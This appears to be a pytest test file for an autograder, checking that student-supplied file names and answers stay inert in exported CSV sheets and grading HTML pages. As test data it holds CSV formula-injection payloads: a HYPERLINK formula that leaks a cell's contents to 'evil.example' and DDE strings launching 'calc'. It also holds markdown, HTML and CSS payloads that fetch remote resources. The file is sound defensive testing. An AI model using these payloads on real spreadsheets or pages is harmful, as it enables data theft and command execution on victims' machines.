"""Pages and sheets that obey only the instructor (issue 20 item 4).

Students choose the names of the files they hand in and type the written answers; both land in
the CSVs and HTML pages the instructor opens. A file named ``=HYPERLINK(...)`` or an answer
starting with ``=``/``+``/``@`` must stay text in a spreadsheet, and a markdown image, an
``<img>``, a link or a CSS ``url()`` in an answer must load nothing when the grading page is
opened: here a listener on 127.0.0.1 counts every request Chromium makes while the pages are open.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from helpers import ROOT
from test_written import MASTER, NAME, fill

from autograder.common import csv_cells
from autograder.review.written import export_sheets, import_scores, written_questions

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
HOSTILE_FILE = '=HYPERLINK("evil.example?leak="&A3,"open").ipynb'  # a file name holds no "/"
FORMULAS = ("=1+2", "+SUM(A1:A9)", "@SUM(A1)", "-2+3", "\t=1+1", "\r=1+1")


# --------------------------------------------------------------------------------------------
# the cell rule


@pytest.mark.parametrize(
    "value, written",
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("-1e-3", "-1e-3"),
        ("--", "--"),
        ("alice.ipynb", "alice.ipynb"),
        ("a=b", "a=b"),
        (-3, "-3"),
    ],
)
def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was(value, written):
    assert csv_cells.safe_cell(value) == written
    assert csv_cells.read_cell(written) == str(value)


def test_every_csv_the_tools_write_goes_through_the_one_writer():
    offenders = []
    for path in sorted((ROOT / "autograder").rglob("*.py")):
        if path.name == "csv_cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"CSV written without autograder.common.csv_cells: {offenders}"


def test_every_html_page_the_tools_write_carries_the_policy():
    offenders = []
    for path in sorted((ROOT / "autograder").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if "<!DOCTYPE html>" in text and "csp_meta(" not in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"HTML written without a Content-Security-Policy: {offenders}"


def _no_formula(cells) -> list[str]:
    return [
        c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?\d+(\.\d+)?|--", c)
    ]


# --------------------------------------------------------------------------------------------
# written answers: the sheet, the pages, the scores round trip


@pytest.fixture()
def listener():
    """An HTTP server on 127.0.0.1 that records every request it gets."""
    seen = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 -- the http.server name
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, seen
    server.shutdown()
    server.server_close()


def _hostile_answer(port: int) -> str:
    base = f"http://127.0.0.1:{port}"
    return (
        f"![x]({base}/markdown-image) and <img src='{base}/html-img'> and [a link]({base}/link) and <{base}/auto>\n\n"
        f'<span style="background:url({base}/css-url)">styled</span> <link rel="stylesheet" href="{base}/sheet.css">\n\n'
        f"<style>body{{background:url({base}/style-tag)}}</style><script src='{base}/script.js'></script>\n\n"
        f"[ref]\n\n[ref]: {base}/reference"
    )


@pytest.fixture()
def hostile_sheets(tmp_path, listener):
    port, seen = listener
    first, second = (q.name for q in written_questions(MASTER)[:2])
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / HOSTILE_FILE).write_text(json.dumps(fill({first: _hostile_answer(port), second: FORMULAS[0]})))
    for i, formula in enumerate(FORMULAS[1:]):
        (subs / f"s{i}.ipynb").write_text(json.dumps(fill({first: formula, second: formula})))
    out = tmp_path / "out"
    out.mkdir()
    files = sorted(p.name for p in subs.iterdir())
    buffer = io.StringIO()
    writer = csv_cells.writer(buffer, lineterminator="\n")
    writer.writerow(["file", "q1", "total_points_earned", "percent_correct", "grading_status"])
    writer.writerow(["points-per-question", "1", "1", "1", "--"])
    for name in files:
        writer.writerow([name, "1", "1", "1", "Completed"])
    (out / "grades.csv").write_text(buffer.getvalue(), encoding="utf-8")
    export_sheets(NAME, subs, out, master=MASTER)
    return {"out": out, "first": first, "second": second, "port": port, "seen": seen, "files": files}


def test_no_cell_of_the_written_sheet_or_the_final_grades_is_a_formula(hostile_sheets):
    out, first = hostile_sheets["out"], hostile_sheets["first"]
    rows = list(csv.reader(open(out / "written" / "written_answers.csv", newline="", encoding="utf-8")))
    cells = [c for row in rows for c in row]
    assert not _no_formula(cells), _no_formula(cells)
    answers = {csv_cells.read_cell(row[3]) for row in rows[1:]}
    assert {f.strip() for f in FORMULAS} <= answers  # kept, as text (answers are read stripped)
    codes = json.loads((out / "written" / "codes.json").read_text())["questions"][first]["codes"]
    hostile_code = next(c for c, f in codes.items() if f == HOSTILE_FILE)
    scores = out / "scores.csv"
    scores.write_text(f"question,code,score,comment\n{first},{hostile_code},1,\n", encoding="utf-8")
    import_scores(out, [scores])  # the hostile file's row is matched through its prefixed name
    final = list(csv.reader(open(out / "final_grades.csv", newline="", encoding="utf-8")))
    assert not _no_formula([c for row in final for c in row])
    by_file = {csv_cells.read_cell(row[0]): dict(zip(final[0], row)) for row in final[2:]}
    assert by_file[HOSTILE_FILE][first] == "1" and by_file[HOSTILE_FILE]["written_points"] == "1"


def _open_in_chromium(pages: list[Path]) -> tuple[list[str], list[str], list[str]]:
    """Open each page from file://; the URLs requested, page errors, and each page's #count text."""
    from playwright.sync_api import sync_playwright

    if not os.path.exists(CHROMIUM):
        pytest.fail("Chromium is not installed: run `make browser` (apt-get install chromium)")
    requests, errors, counts = [], [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        page = browser.new_page()
        page.on("request", lambda r: requests.append(r.url))
        page.on("pageerror", lambda e: errors.append(str(e)))
        for path in pages:
            page.goto(path.as_uri())
            page.wait_for_timeout(300)
            for link in page.query_selector_all("a[href^='#']"):  # clicking inside the page is fine
                link.click()
            counts.append(page.inner_text("#count") if page.query_selector("#count") else "")
        browser.close()
    return requests, errors, counts


@pytest.mark.browser
def test_opening_the_grading_pages_loads_nothing_from_outside(hostile_sheets):
    out, seen = hostile_sheets["out"], hostile_sheets["seen"]
    pages = sorted((out / "written").glob("*.html"))
    first_page = (out / "written" / f"{hostile_sheets['first']}.html").read_text(encoding="utf-8")
    assert 'http-equiv="Content-Security-Policy"' in first_page and "default-src &#x27;none&#x27;" in first_page
    assert "<img" not in first_page.split("<h2>Answers</h2>")[1]  # the answer's image is text
    assert "![x](http://127.0.0.1" in first_page
    requests, errors, counts = _open_in_chromium(pages)
    assert seen == [], f"the listener was reached: {seen}"
    assert all(url.startswith(("file:", "data:", "blob:")) for url in requests), requests
    assert not errors
    assert all(re.match(r"\d+ of \d+ scored", c) for c in counts), counts  # the page's own script runs


@pytest.mark.browser
def test_the_class_report_loads_nothing_and_shows_its_figures(tmp_path, listener):
    from autograder.review.class_report import write_report
    from autograder.review.class_report.synthetic import results as generate

    port, seen = listener
    results = generate(n=40)
    results["rows"][0]["file"] = f"<img src='http://127.0.0.1:{port}/report-img'>{HOSTILE_FILE}"
    results["rows"][0]["status"] = f"Failed: <style>@import 'http://127.0.0.1:{port}/x.css';</style>"
    (tmp_path / "results.json").write_text(json.dumps(results))
    page = write_report(tmp_path)
    assert 'http-equiv="Content-Security-Policy"' in page.read_text()
    requests, errors, _ = _open_in_chromium([page])
    assert seen == [] and not errors
    assert all(url.startswith(("file:", "data:")) for url in requests), requests


# --------------------------------------------------------------------------------------------
# grades.csv and the exports


def test_grades_csv_keeps_a_hostile_file_name_as_text(fixture_course, tmp_path):
    from autograder.grading import intake, report
    from autograder.grading.score import load_assignment

    assignment = load_assignment(fixture_course.dist / "99_fixture.zip", "99_fixture")
    entries = [
        intake.Entry(rel=HOSTILE_FILE, path=Path(HOSTILE_FILE), failure="=not a notebook"),
        intake.Entry(rel="@alice.ipynb", path=Path("@alice.ipynb"), failure="empty file"),
    ]
    report.write_csv(tmp_path / "grades.csv", entries, assignment)
    rows = list(csv.reader(open(tmp_path / "grades.csv", newline="", encoding="utf-8")))
    assert not _no_formula([c for row in rows for c in row])
    assert [csv_cells.read_cell(r[0]) for r in rows[2:]] == [HOSTILE_FILE, "@alice.ipynb"]


def test_exports_keep_hostile_names_as_text_and_match_hostile_files(tmp_path):
    from autograder.exports import main as export_main

    grades = tmp_path / "grades.csv"
    buffer = io.StringIO()
    writer = csv_cells.writer(buffer, lineterminator="\n")
    writer.writerows(
        [
            ["file", "q1", "total_points_earned", "percent_correct", "grading_status"],
            ["points-per-question", "2", "2", "1", "--"],
            [HOSTILE_FILE, "2", "2", "1", "Completed"],
        ]
    )
    grades.write_text(buffer.getvalue(), encoding="utf-8")
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(
            [
                ["file", "student_id", "name", "email"],
                [HOSTILE_FILE, "s1", "=cmd|'/C calc'!A0", "@evil@example.edu"],
            ]
        )
    for fmt in ("canvas", "gradescope"):
        target = tmp_path / f"{fmt}.csv"
        assert (
            export_main(["--format", fmt, "--grades", str(grades), "--roster", str(roster), "--out", str(target)]) == 0
        )
        rows = list(csv.reader(open(target, newline="", encoding="utf-8")))
        cells = [c for row in rows for c in row]
        assert not _no_formula(cells), (fmt, cells)
        assert "'=cmd|'/C calc'!A0" in cells and "2" in cells


@pytest.mark.browser
def test_the_pages_downloaded_scores_keep_a_formula_comment_as_text(hostile_sheets):
    """The grading page writes ``scores_<q>.csv`` itself (in the browser): the same rule holds."""
    from playwright.sync_api import sync_playwright

    out, first = hostile_sheets["out"], hostile_sheets["first"]
    codes = json.loads((out / "written" / "codes.json").read_text())["questions"][first]["codes"]
    code = next(c for c, f in codes.items() if f == HOSTILE_FILE)
    if not os.path.exists(CHROMIUM):
        pytest.fail("Chromium is not installed: run `make browser` (apt-get install chromium)")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"])
        page = browser.new_context(accept_downloads=True).new_page()
        page.goto((out / "written" / f"{first}.html").as_uri())
        page.fill(f'[data-code="{code}"] input[type=number]', "1")
        page.fill(f'[data-code="{code}"] input[type=text]', '=HYPERLINK("http://127.0.0.1:9/","x")')
        with page.expect_download() as download:
            page.click("#download")
        target = out / "scores.csv"
        download.value.save_as(target)
        browser.close()
    rows = list(csv.DictReader(open(target, newline="", encoding="utf-8")))
    row = next(r for r in rows if r["code"] == code)
    assert row["comment"] == '\'=HYPERLINK("http://127.0.0.1:9/","x")' and row["score"] == "1"
    assert import_scores(out, [target])["scores_read"] >= 1
